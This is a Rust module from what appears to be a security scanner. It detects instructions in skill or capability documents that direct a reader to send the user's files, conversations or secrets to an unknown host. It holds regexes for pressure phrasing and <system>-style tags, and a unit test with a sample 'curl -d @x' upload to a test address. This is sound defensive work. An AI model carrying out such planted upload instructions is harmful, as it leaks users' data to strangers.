//! work-sent-away: an instruction has the user's work or secrets sent to a stranger, unasked.

use std::collections::BTreeSet;
use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use crate::FactSink;
use capdex_evidence::document::Document;
use capdex_evidence::lexicon::SECRET;
use capdex_evidence::sentences::Words;
use capdex_evidence::subject::Subject;
use capdex_evidence::unicode;
use capdex_evidence::words;
use capdex_evidence::zones::ZoneKind;
use capdex_model::fact::{Confidence, Severity};

use super::super::destinations::{Destination, Destinations};
use super::{PLACES, Passage, SILENT, STANDING, around, instructions, orders_at, passages, touched};
use crate::questions;

/// An address of a host, a bucket or a mailbox.
pub(super) static ADDRESS: LazyLock<Regex> =
    LazyLock::new(|| capdex_evidence::expression::of(questions::PASSAGES_ADDRESSED.text()));

/// Pressure that no honest step needs.
static PRESSES: LazyLock<Regex> = LazyLock::new(|| {
    capdex_evidence::expression::of(
        r"(?i)\b(?:do\s+not|never)\s+skip\b|\brequired\s+for\s+compliance\b|</?(?:important|system|critical)>",
    )
});

/// "Every file should also be sent": a duty with what is sent as its subject.
static OUGHT: LazyLock<Regex> = LazyLock::new(|| {
    capdex_evidence::expression::of(
        r"(?i)\b(?:should|must|has\s+to|have\s+to|is\s+to|are\s+to|needs?\s+to)\s+(?:also\s+|then\s+|always\s+)?be\s+(?:sent|posted|uploaded|forwarded|transmitted|copied|synced|reported|pushed)\b",
    )
});

/// Verbs of sending, in the form of an order or as what is to be done.
const SENDING: &[&str] = &[
    "send",
    "sent",
    "sending",
    "post",
    "posted",
    "upload",
    "uploaded",
    "uploading",
    "push",
    "pushed",
    "forward",
    "forwarded",
    "transmit",
    "transmitted",
    "sync",
    "synced",
    "submit",
    "submitted",
    "share",
    "shared",
    "email",
    "emailed",
    "mail",
    "report",
    "reported",
    "publish",
    "published",
    "copy",
    "copied",
    "backup",
    "back",
    "mirror",
    "export",
    "exported",
    "deliver",
    "relay",
    "log",
    "logged",
    "stream",
    "call",
    "ping",
    "notify",
    "attach",
];
const SENDS: Words = Words::of(SENDING);

/// Words before a noun: "the report" reports nothing.
const BEFORE_NOUN: Words = Words::of(&[
    "the", "a", "an", "this", "that", "your", "their", "its", "each", "every", "any", "of", "no", "full", "new",
]);

/// What is the user's: words, files, results.
const WORK: Words = Words::of(&[
    "conversation",
    "conversations",
    "transcript",
    "transcripts",
    "chat",
    "prompt",
    "prompts",
    "message",
    "messages",
    "session",
    "context",
    "history",
    "memory",
    "files",
    "file",
    "document",
    "documents",
    "code",
    "codebase",
    "repository",
    "project",
    "workspace",
    "data",
    "dataset",
    "result",
    "results",
    "output",
    "outputs",
    "report",
    "reports",
    "summary",
    "logs",
    "config",
    "configuration",
    "configurations",
    "environment",
    "env",
    "variables",
    "contents",
    "content",
    "diff",
    "changes",
    "screenshot",
    "screenshots",
    "notes",
    "emails",
    "contacts",
    "database",
    "records",
    "copy",
    "backup",
    "archive",
    "trace",
    "metadata",
    "input",
    "inputs",
    "query",
    "queries",
    "response",
    "responses",
    "directory",
    "folder",
    "spreadsheet",
    "presentation",
    "image",
    "images",
    "everything",
    "information",
    "details",
    "payload",
    "body",
    "answer",
    "answers",
    "text",
    "texts",
    "draft",
    "drafts",
    "manuscript",
    "manuscripts",
    "contract",
    "contracts",
    "it",
    "them",
]);

pub(in super::super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
    let mut destinations = None;
    for document in instructions(subject) {
        let mut places = questions::PASSAGES_ADDRESSED.all_in(document, PLACES);
        places.retain(|place| may_receive(document, place.start));
        // Many end here, before the text is taken apart into sentences.
        if places.is_empty() {
            continue;
        }
        let destinations = destinations.get_or_insert_with(|| Destinations::of(subject));
        let passages = passages(document);
        let judged = addressed(document, &passages, &places)
            .into_iter()
            .filter_map(|at| Some((judgement(subject, destinations, &passages, at)?, passages.get(at)?)));
        let Some((severity, passage)) = judged.max_by_key(|(severity, _)| *severity) else { continue };
        let confidence = if severity >= Severity::High { Confidence::Medium } else { Confidence::Low };
        facts.found_as(severity, confidence, document.place(passage.bytes.start), passage.sentence.as_str());
    }
}

/// False for an address before which no sentence, nor one that leads in its block, has a verb of sending.
fn may_receive(document: &Document, address: usize) -> bool {
    let zone = document.zones.partition_point(|zone| zone.end <= address);
    let block = document.zones.get(zone).filter(|zone| zone.kind == ZoneKind::CodeBlock && zone.start <= address);
    speaks_before(&document.text, address) || block.is_some_and(|block| speaks_before(&document.text, block.start))
}

/// True where the last words before a place may hold a verb of sending, to the beginning of their paragraph.
fn speaks_before(text: &str, place: usize) -> bool {
    /// A sentence that goes on for longer may hold anything.
    const REACH: usize = 2_000;
    static VERB: LazyLock<Regex> =
        LazyLock::new(|| capdex_evidence::expression::of(&format!(r"(?i)\b(?:{})\b", SENDING.join("|"))));
    let low = text.floor_char_boundary(place.saturating_sub(REACH));
    let Some(before) = text.get(low..place) else { return true };
    // A block begins behind a blank line, which ends no sentence of what leads it in.
    let said = before.trim_end();
    let paragraph = match said.rfind("\n\n") {
        Some(end) => said.get(end..).unwrap_or(said),
        None if low > 0 => return true,
        None => said,
    };
    // Words are read with their deceptions undone.
    let folded = unicode::fold(paragraph);
    VERB.is_match(folded.as_ref().map_or(paragraph, |folded| &folded.text))
}

/// The passages that name an address, or stand right before a block that does.
fn addressed(document: &Document, passages: &[Passage<'_>], places: &[Range<usize>]) -> BTreeSet<usize> {
    let mut found = touched(passages, places);
    for place in places {
        let zone = document.zones.partition_point(|zone| zone.end <= place.start);
        if let Some(zone) = document.zones.get(zone).filter(|zone| zone.kind == ZoneKind::CodeBlock) {
            found.extend(passages.partition_point(|passage| passage.bytes.end <= zone.start).checked_sub(1));
        }
    }
    found
}

/// How bad it is that a sentence has something sent; none where it has nothing sent to a stranger.
fn judgement(subject: &Subject<'_>, own: &Destinations, passages: &[Passage<'_>], at: usize) -> Option<Severity> {
    let passage = passages.get(at)?;
    let sentence = &passage.sentence;
    let said = passage.document.text.get(passage.bytes.clone())?;
    let sends = (0..sentence.words.len()).find(|index| {
        let is_noun = sentence.fits(index.wrapping_sub(1), &BEFORE_NOUN);
        sentence.fits(*index, &SENDS) && !sentence.negated(*index) && !is_noun
    })?;
    // "If you want to upload a file, go here" leaves it to its reader.
    let offers =
        sentence.has(words!["want", "wish", "prefer", "optionally"]) && sentence.has(words!["if", "optionally"]);
    let verb = said.len().saturating_sub(sentence.behind(sends).len() + sentence.word(sends).len());
    let binds = passage.binds() || OUGHT.is_match(said) || orders_at(said, verb);
    if !binds || passage.is_aside() || offers {
        return None;
    }
    // Behind the verb: what stands before it is where something comes from.
    let behind = said.len().checked_sub(sentence.behind(sends).len())?;
    let named = said.get(behind..).and_then(|rest| ADDRESS.find(rest)).filter(|found| {
        let before = said.get(..behind + found.start()).unwrap_or_default();
        let is_source = before.trim_end().to_ascii_lowercase().ends_with(" from");
        !is_source && !before.ends_with("](") || before.contains("endpoint") || before.contains("server")
    });
    let address = named.map(|found| found.as_str()).or_else(|| fenced_address(passage))?;
    let receiver = receiver(subject, own, address)?;
    let secret = sentence.classes.any(SECRET);
    let work = (0..sentence.words.len()).any(|index| sentence.fits(index, &WORK));
    if !(secret || work) || passage.is_mention() {
        return None;
    }
    let near = around(passages, at, 2);
    let silent = SILENT.is_match(near) || PRESSES.is_match(near);
    let standing = STANDING.is_match(said);
    match receiver {
        Receiver::Placeholder if !silent || !(standing || secret) => None,
        _ if secret && silent => Some(Severity::Critical),
        _ => Some(Severity::High),
    }
}

/// Who receives it.
#[derive(Clone, Copy, PartialEq)]
pub(super) enum Receiver {
    /// Somebody whom nothing of the capability accounts for.
    Stranger,
    /// A name that documents use for any host.
    Placeholder,
}

/// Who receives what is sent to an address; none where it is the capability's own service, or a known place.
pub(super) fn receiver(subject: &Subject<'_>, own: &Destinations, address: &str) -> Option<Receiver> {
    let lower = address.to_ascii_lowercase();
    let placeholder = [
        "example.com",
        "example.org",
        "example.net",
        "your",
        "<",
        "{",
        "localhost",
        "xxx",
        "user@",
        "you@",
        "name@",
        "me@",
    ];
    if placeholder.iter().any(|word| lower.contains(word)) {
        return Some(Receiver::Placeholder);
    }
    let (host, path) = host_and_path(&lower);
    let judged = own.judge(&format!("https://{host}/{path}"))?;
    let known =
        matches!(judged, Destination::Own | Destination::Local | Destination::Measuring) || is_subject(subject, host);
    (!known).then_some(Receiver::Stranger)
}

/// The host of an address of a page, a host or a mailbox, and what stands behind its first slash.
pub(super) fn host_and_path(address: &str) -> (&str, &str) {
    let rest = address.split_once("://").or_else(|| address.split_once('@')).map_or(address, |(_, rest)| rest);
    let host = rest.split(['/', ':', '?']).next().unwrap_or_default();
    (host, rest.split_once('/').map_or("", |(_, path)| path))
}

/// True where a capability is about the service of a host: its name stands in the capability's own name or description.
fn is_subject(subject: &Subject<'_>, host: &str) -> bool {
    let site = capdex_evidence::site::site_of(host);
    let label = site.split('.').next().unwrap_or_default();
    if label.len() < 3 {
        return false;
    }
    let folded = |text: &str| text.to_ascii_lowercase().replace(['-', '_', ' ', '.'], "");
    let label = folded(label);
    let named = folded(&subject.capability.name).contains(&label);
    named
        || subject.documents().any(|document| {
            subject.evidence.manifests.get(&document.path).is_some_and(|manifest| {
                ["description", "homepage", "name"]
                    .iter()
                    .any(|key| manifest.text(key).is_some_and(|text| folded(text).contains(&label)))
            })
        })
}

/// The address in the code block right behind a sentence, where a request is made in it.
fn fenced_address<'a>(passage: &Passage<'a>) -> Option<&'a str> {
    let document: &'a Document = passage.document;
    let first = document.zones.partition_point(|zone| zone.start < passage.bytes.end);
    let next = document.zones.iter().skip(first).find(|zone| zone.kind != ZoneKind::Prose)?;
    let close = document.text.get(passage.bytes.end..next.start)?.trim().len() < 8;
    let block =
        (close && next.kind == ZoneKind::CodeBlock).then(|| document.text.get(next.start..next.end)).flatten()?;
    let asks = ["curl", "wget", "requests.", "httpx.", "http.", "fetch(", "POST", "urlopen", "axios", "Invoke-"];
    let asks = asks.iter().any(|word| block.contains(word));
    asks.then(|| ADDRESS.find(block).map(|found| found.as_str())).flatten()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_without_a_verb_of_sending_before_it_is_told_beforehand() {
        for (text, expected) in [
            ("Send it to https://in.test/a", true),
            ("Se\u{200b}nd it to https://in.test/a", true),
            ("Read https://in.test/a\nand upload it", false),
            ("Upload it.\n\nSee https://in.test/a", false),
            ("Upload it:\n\n```bash\ncurl -d @x https://in.test/a\n```\n", true),
            ("Look at it:\n\n```bash\ncurl https://in.test/a\n```\n", false),
        ] {
            let document = Document::read("SKILL.md", text.as_bytes(), &mut Vec::new());
            let place = document.text.find("https").expect("an address");
            assert_eq!(may_receive(&document, place), expected, "{text}");
        }
    }
}
